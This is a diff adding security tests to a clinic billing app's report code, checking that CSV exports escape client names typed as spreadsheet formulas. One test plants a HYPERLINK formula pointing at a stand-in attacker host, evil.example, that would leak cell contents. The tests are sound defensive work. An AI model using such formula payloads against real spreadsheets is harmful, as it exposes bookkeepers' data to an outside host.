@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 from decimal import Decimal
 from typing import Any
@@ -10,6 +12,7 @@ from fascia.billing.actions import invoice_appointment, record_payment, refund
 from fascia.billing.reports import outstanding, payer_mix, revenue
 from fascia.billing.tests.test_billing import AFTER, completed_visit
 from fascia.scheduling.tests.conftest import ClinicWeek
+from fascia.spreadsheets import FORMULA_STARTS, spreadsheet_cell
 
 YEAR = (date(2031, 1, 1), date(2031, 12, 31))
 
@@ -47,3 +50,30 @@ def test_reports_add_up(week: ClinicWeek, signed_in: Any) -> None:
     assert csv["Content-Type"].startswith("text/csv")
     assert csv.content.decode().splitlines()[0] == "Payer,Received,Share"
     assert signed_in(week.maya.user).get("/staff/reports/").status_code == 403
+
+
+def test_a_name_typed_as_a_formula_is_plain_text_in_the_csv(
+    week: ClinicWeek, signed_in: Any
+) -> None:
+    """Spreadsheet formula injection: a client who books as `=HYPERLINK(...)` must not become
+    a live formula in the bookkeeper's spreadsheet; amounts (a refund's minus) stay numbers."""
+    client = week.client
+    client.legal_first_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    client.legal_last_name = "@SUM(1+1)"
+    client.save()
+    invoice_appointment(completed_visit(week, 10), now=AFTER)
+    books = signed_in(week.cast.bookkeeper)
+    text = books.get("/staff/reports/?csv=outstanding").content.decode()
+    (_, row) = list(csv.reader(io.StringIO(text)))
+    name_cells = [cell for cell in row if "HYPERLINK" in cell or "SUM" in cell]
+    assert name_cells and all(cell.startswith("'") for cell in name_cells)
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
+
+
+def test_spreadsheet_cells() -> None:
+    assert spreadsheet_cell("=1+1") == "'=1+1"
+    assert spreadsheet_cell("\t=1") == "'\t=1"
+    assert spreadsheet_cell("+1 416 555 0100") == "'+1 416 555 0100"
+    assert spreadsheet_cell(Decimal("-5.00")) == "-5.00"
+    assert spreadsheet_cell("Sun Life") == "Sun Life"
+    assert spreadsheet_cell(None) == ""
